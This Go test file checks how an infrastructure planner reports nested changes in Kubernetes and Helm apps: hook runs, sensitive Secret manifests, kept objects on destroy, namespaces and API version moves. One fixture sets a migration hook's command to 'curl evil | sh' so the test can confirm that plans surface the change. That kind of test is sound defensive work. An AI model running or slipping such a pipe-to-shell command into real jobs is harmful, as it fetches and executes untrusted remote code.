func TestHookRunsShowTheirManifests(t *testing.T) {
	t.Parallel()
	hook := func(id, manifest string) cty.Value {
		return cty.ObjectVal(map[string]cty.Value{
			builtin.HookPhase: cty.StringVal(builtin.HookPreSync), builtin.HookID: cty.StringVal(id), builtin.HookGenerateName: cty.NullVal(cty.String),
			builtin.HookWave: cty.NumberIntVal(0), builtin.HookDeletePolicy: cty.ListValEmpty(cty.String), builtin.HookManifest: cty.StringVal(manifest),
		})
	}
	app := func(command string, objects map[string]cty.Value) cty.Value {
		return cty.ObjectVal(map[string]cty.Value{
			builtin.AppObjects: cty.ObjectVal(objects),
			builtin.AppHooks: cty.ListVal([]cty.Value{
				hook("batch/v1 Job web/migrate", `{"kind":"Job","spec":{"template":{"spec":{"containers":[{"name":"migrate","command":["`+command+`"]}]}}}}`),
				hook("v1 Secret web/token", `{"kind":"Secret","stringData":{"token":"hunter2"}}`),
			}),
		})
	}
	cm := func(v string) map[string]cty.Value {
		return map[string]cty.Value{"v1 ConfigMap web/settings": cty.ObjectVal(map[string]cty.Value{"data": cty.ObjectVal(map[string]cty.Value{"v": cty.StringVal(v)})})}
	}
	secret := []cty.Path{cty.GetAttrPath(builtin.AppHooks).IndexInt(1).GetAttr(builtin.HookManifest)}
	command := cty.GetAttrPath(builtin.HookManifest).GetAttr("spec").GetAttr("template").GetAttr("spec").GetAttr("containers").IndexInt(0).GetAttr("command").IndexInt(0)

	t.Run("a run shows what changed in its hook", func(t *testing.T) {
		ch := &plans.ResourceChange{Action: plans.Update, Before: app("migrate up", cm("1")), After: app("curl evil | sh", cm("2")),
			BeforeSensitive: secret, AfterSensitive: secret}
		runs := map[string]*plans.NestedChange{}
		for _, nc := range nestedChanges(ch) {
			runs[nc.Address] = nc
		}
		m := runs["hook PreSync batch/v1 Job web/migrate"]
		if m == nil || m.Action != plans.Run {
			t.Fatalf("no run of the migration among %v", slices.Collect(maps.Keys(runs)))
		}
		before, _ := command.Apply(m.Before)
		after, err := command.Apply(m.After)
		if err != nil || !before.RawEquals(cty.StringVal("migrate up")) || !after.RawEquals(cty.StringVal("curl evil | sh")) {
			t.Errorf("the run's command: %#v -> %#v (%v); want migrate up -> curl evil | sh", before, after, err)
		}
		s := runs["hook PreSync v1 Secret web/token"]
		want := []cty.Path{cty.GetAttrPath(builtin.HookManifest)}
		if s == nil || !cmp.Equal(want, s.AfterSensitive, cmp.Comparer(func(a, b cty.Path) bool { return a.Equals(b) })) || !cmp.Equal(want, s.BeforeSensitive, cmp.Comparer(func(a, b cty.Path) bool { return a.Equals(b) })) {
			t.Errorf("the Secret hook's run: %+v; want its manifest sensitive before and after", s)
		}
	})
	t.Run("an update of hooks alone records them", func(t *testing.T) {
		ch := &plans.ResourceChange{Action: plans.Update, Before: app("migrate up", cm("1")), After: app("curl evil | sh", cm("1")),
			BeforeSensitive: secret, AfterSensitive: secret}
		var got []string
		for _, nc := range nestedChanges(ch) {
			if nc.Action != plans.NoOp {
				got = append(got, nc.Action.String()+" "+nc.Address)
			}
		}
		if diff := cmp.Diff([]string{"update hook PreSync batch/v1 Job web/migrate (runs at the next sync)"}, got); diff != "" {
			t.Errorf("nested changes (-want +got):\n%s", diff)
		}
	})
}

// TestDestroyLeavesKeptObjects: an app's destroy leaves in place what
// Helm's keep (and, in an app of manifests, Argo CD's Delete=false)
// marks: a no-op, as sensitive as it was, not a delete.
func TestDestroyLeavesKeptObjects(t *testing.T) {
	t.Parallel()
	obj := func(ann map[string]string) cty.Value {
		a := cty.MapValEmpty(cty.String)
		if len(ann) > 0 {
			m := map[string]cty.Value{}
			for k, v := range ann {
				m[k] = cty.StringVal(v)
			}
			a = cty.MapVal(m)
		}
		return cty.ObjectVal(map[string]cty.Value{"metadata": cty.ObjectVal(map[string]cty.Value{"annotations": a})})
	}
	app := cty.ObjectVal(map[string]cty.Value{builtin.AppObjects: cty.ObjectVal(map[string]cty.Value{
		"v1 Secret web/token":     obj(map[string]string{builtin.HelmResourcePolicy: "keep"}),
		"v1 ConfigMap web/ledger": obj(map[string]string{builtin.ArgoSyncOptions: "Delete=false"}),
		"v1 ConfigMap web/plain":  obj(nil),
	})})
	secret := []cty.Path{cty.GetAttrPath(builtin.AppObjects).Index(cty.StringVal("v1 Secret web/token")).GetAttr("data")}
	for _, tc := range []struct {
		typ  string
		want []string
	}{
		{builtin.KubernetesApp, []string{"no-op keep_on_destroy v1 ConfigMap web/ledger", "delete delete_because_no_resource_config v1 ConfigMap web/plain", "no-op keep_on_destroy v1 Secret web/token"}},
		{builtin.HelmRelease, []string{"delete delete_because_no_resource_config v1 ConfigMap web/ledger", "delete delete_because_no_resource_config v1 ConfigMap web/plain", "no-op keep_on_destroy v1 Secret web/token"}},
	} {
		ch := &plans.ResourceChange{Type: tc.typ, Action: plans.Delete, Before: app, After: cty.NullVal(app.Type()), BeforeSensitive: secret}
		var got []string
		for _, nc := range nestedChanges(ch) {
			got = append(got, nc.Action.String()+" "+string(nc.Reason)+" "+nc.Address)
			if nc.Address == "v1 Secret web/token" && (len(nc.AfterSensitive) != 1 || !nc.AfterSensitive[0].Equals(cty.GetAttrPath("data"))) {
				t.Errorf("%s: the kept Secret's after is sensitive at %#v; want its data, as before", tc.typ, nc.AfterSensitive)
			}
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s: nested changes (-want +got):\n%s", tc.typ, diff)
		}
	}
}

// TestDestroyKeepsTheNamespaceOfKeptObjects: an app's destroy leaves its
// Namespace in place while it holds an object left in place; a helm
// release's uninstall deletes the Namespace whatever it holds, and its
// plan says so.
func TestDestroyKeepsTheNamespaceOfKeptObjects(t *testing.T) {
	t.Parallel()
	objects := cty.ObjectVal(map[string]cty.Value{
		"v1 Namespace /db": cty.ObjectVal(map[string]cty.Value{"metadata": cty.ObjectVal(map[string]cty.Value{"name": cty.StringVal("db")})}),
		"v1 PersistentVolumeClaim db/data": cty.ObjectVal(map[string]cty.Value{"metadata": cty.ObjectVal(map[string]cty.Value{
			"annotations": cty.ObjectVal(map[string]cty.Value{builtin.HelmResourcePolicy: cty.StringVal("keep")}),
		})}),
	})
	for typ, want := range map[string]plans.Action{builtin.KubernetesApp: plans.NoOp, builtin.HelmRelease: plans.Delete} {
		ch := &plans.ResourceChange{Type: typ, Action: plans.Delete,
			Before: cty.ObjectVal(map[string]cty.Value{builtin.AppObjects: objects}), After: cty.NullVal(cty.DynamicPseudoType)}
		found := false
		for _, nc := range nestedChanges(ch) {
			if nc.Address == "v1 Namespace /db" {
				found = true
				if nc.Action != want {
					t.Errorf("%s: the Namespace holding a kept object is planned %s, want %s", typ, nc.Action, want)
				}
			}
		}
		if !found {
			t.Errorf("%s: no change of the Namespace", typ)
		}
	}
}

// TestObjectAtANewAPIVersionIsUpdated: a manifest moved to another
// version of its API names the object it named, which the provider
// updates: the plan says so, not a delete beside a create, which a
// policy against deletes would deny.
func TestObjectAtANewAPIVersionIsUpdated(t *testing.T) {
	t.Parallel()
	gadget := func(size int64) cty.Value {
		return cty.ObjectVal(map[string]cty.Value{"spec": cty.ObjectVal(map[string]cty.Value{"size": cty.NumberIntVal(size)})})
	}
	app := func(id string, size int64) cty.Value {
		return cty.ObjectVal(map[string]cty.Value{builtin.AppObjects: cty.ObjectVal(map[string]cty.Value{id: gadget(size)})})
	}
	const (
		old = "e2e.slipway.dev/v1alpha1 Gadget ns/g1"
		now = "e2e.slipway.dev/v1beta1 Gadget ns/g1"
	)
	// Helm's upgrade matches objects by group and kind too.
	for _, typ := range []string{builtin.KubernetesApp, builtin.HelmRelease} {
		ch := &plans.ResourceChange{Type: typ, Action: plans.Update, Before: app(old, 3), After: app(now, 4)}
		var got []string
		for _, nc := range nestedChanges(ch) {
			got = append(got, nc.Address+" "+nc.Action.String())
			if nc.Address == now && !nc.Before.RawEquals(gadget(3)) {
				t.Errorf("%s: the update's before is %#v, want the object at its old version", typ, nc.Before)
			}
		}
		if want := []string{now + " " + plans.Update.String()}; !slices.Equal(got, want) {
			t.Errorf("%s: nested changes %v, want %v", typ, got, want)
		}
	}
}

// TestChartUpgradeLeavesKeptObjects: an object that leaves a chart is
// deleted by Helm's upgrade unless it carries helm.sh/resource-policy:
// keep, which Helm's upgrade honours as its uninstall does: the plan says
// it stays, not that it is deleted.
func TestChartUpgradeLeavesKeptObjects(t *testing.T) {
	t.Parallel()
	obj := func(keep bool) cty.Value {
		a := cty.MapValEmpty(cty.String)
		if keep {
			a = cty.MapVal(map[string]cty.Value{builtin.HelmResourcePolicy: cty.StringVal("keep")})
		}
		return cty.ObjectVal(map[string]cty.Value{"metadata": cty.ObjectVal(map[string]cty.Value{"annotations": a})})
	}
	before := cty.ObjectVal(map[string]cty.Value{builtin.AppObjects: cty.ObjectVal(map[string]cty.Value{
		"v1 PersistentVolumeClaim web/data": obj(true),
		"v1 ConfigMap web/old":              obj(false),
		"v1 ConfigMap web/stays":            obj(false),
	})})
	after := cty.ObjectVal(map[string]cty.Value{builtin.AppObjects: cty.ObjectVal(map[string]cty.Value{
		"v1 ConfigMap web/stays": obj(false),
	})})
	ch := &plans.ResourceChange{Type: builtin.HelmRelease, Action: plans.Update, Before: before, After: after}
	var got []string
	for _, nc := range nestedChanges(ch) {
		got = append(got, nc.Action.String()+" "+string(nc.Reason)+" "+nc.Address)
	}
	want := []string{
		"delete delete_because_no_resource_config v1 ConfigMap web/old",
		"no-op  v1 ConfigMap web/stays",
		"no-op keep_on_destroy v1 PersistentVolumeClaim web/data",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("nested changes (-want +got):\n%s", diff)
	}
}
